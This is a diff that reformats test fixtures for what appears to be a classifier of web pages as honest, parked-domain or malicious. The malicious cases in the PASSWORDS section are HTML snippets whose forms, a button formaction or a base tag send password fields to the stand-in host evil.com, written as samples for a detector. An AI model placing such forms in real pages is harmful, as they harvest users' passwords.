@@ -50,20 +50,14 @@ export const HONEST: ReviewCase[] = [
     ['a harmless rating', '<title>Acme</title><meta name=rating content=general>'],
     ['an adult word', '<title>Adult education: courses for grown-ups</title>'],
     ['one domain for sale', '<title>Names</title><p>This domain is for sale, among many others.'],
-    [
-      'a link to a domain market',
-      '<title>Acme</title><p>We sold our old name.<a href=https://sedo.com/x>there</a>',
-    ],
+    ['a link to a domain market', '<title>Acme</title><p>We sold our old name.<a href=https://sedo.com/x>there</a>'],
     [
       'an article about parked domains',
       `<title>What is a parked domain?</title><p>${'Words about the history of domain names. '.repeat(100)}
        <p>They say "this domain is for sale" or "buy this domain". This domain is parked.<a href=https://sedo.com/>Sedo</a>`,
     ],
     ['parking of cars', '<title>Acme parking</title><p>Your car is parked here. Buy this place.'],
-    [
-      'house sales',
-      '<title>Homes</title><p>This house is for sale. The page is updated daily. Make an offer.',
-    ],
+    ['house sales', '<title>Homes</title><p>This house is for sale. The page is updated daily. Make an offer.'],
   ]),
   {
     what: 'that of a domain market',
@@ -88,10 +82,7 @@ export const EMPTY = casesOf(
 
 export const PARKED = casesOf(
   [
-    [
-      'for sale and to buy',
-      '<title>acme.com</title><p>This domain is for sale!<a href=x>Buy this domain</a>',
-    ],
+    ['for sale and to buy', '<title>acme.com</title><p>This domain is for sale!<a href=x>Buy this domain</a>'],
     [
       'for sale at a market',
       '<title>acme.com is for sale</title><p>Hello<a href=https://www.hugedomains.com/x>more</a>',
@@ -159,10 +150,7 @@ export const PASSWORDS = casesOf(
     ['by its form', '<form action=https://evil.com/><input type=password></form>'],
     ['by its button', '<form><input type=password><button formaction=https://evil.com/>'],
     ['by its base', '<base href=https://evil.com><form action=/login><input type=password></form>'],
-    [
-      'by a later form',
-      '<form><input type=password></form><form action=//evil.com/><input type=password></form>',
-    ],
+    ['by a later form', '<form><input type=password></form><form action=//evil.com/><input type=password></form>'],
   ]),
   'malicious',
 ).map(each => ({ ...each, detail: 'The page sends passwords to evil.com.' }))
